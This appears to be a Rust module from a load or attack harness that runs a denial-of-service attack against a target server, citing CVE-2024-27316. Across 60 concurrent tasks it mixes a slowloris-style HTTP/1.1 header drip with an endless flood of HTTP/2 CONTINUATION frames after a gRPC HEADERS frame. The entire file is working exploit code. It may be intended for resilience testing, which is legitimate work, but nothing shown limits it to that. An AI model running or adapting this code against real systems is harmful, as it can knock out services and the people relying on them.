//! Sends the headers of a call a byte at a time, in frames that go on without end (CVE-2024-27316).

use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use super::wire::{CONTINUATION, HEADERS, Wire, call, connect, frame};
use super::{Aim, again, crowd};

/// Between two bytes.
const DRIP: Duration = Duration::from_millis(100);

pub(super) async fn run(aim: Aim) -> u64 {
    let block = call("/meridian.da.v1.Log/ListLogs");
    crowd(60, |place| {
        let block = block.clone();
        again(aim, move |done| {
            let block = block.clone();
            async move {
                // To the pages the same, in the words of HTTP/1.
                if place % 3 == 0 {
                    let mut stream = connect(aim.from, aim.http).await?;
                    stream.write_all(b"GET /status HTTP/1.1\r\nHost: localhost\r\nx: ").await?;
                    loop {
                        stream.write_all(b"a").await?;
                        done.add(1);
                        sleep(DRIP).await;
                    }
                }
                let mut wire = Wire::open(aim.from, aim.grpc, &[]).await?;
                let stream = wire.stream();
                wire.send(&frame(HEADERS, 0, stream, &block)).await?;
                // A third as fast as it can, with empty frames.
                let drip = place % 3 == 1;
                loop {
                    wire.send(&frame(CONTINUATION, 0, stream, if drip { &[0] } else { &[] })).await?;
                    done.add(1);
                    if drip {
                        sleep(DRIP).await;
                    }
                }
            }
        })
    })
    .await
}
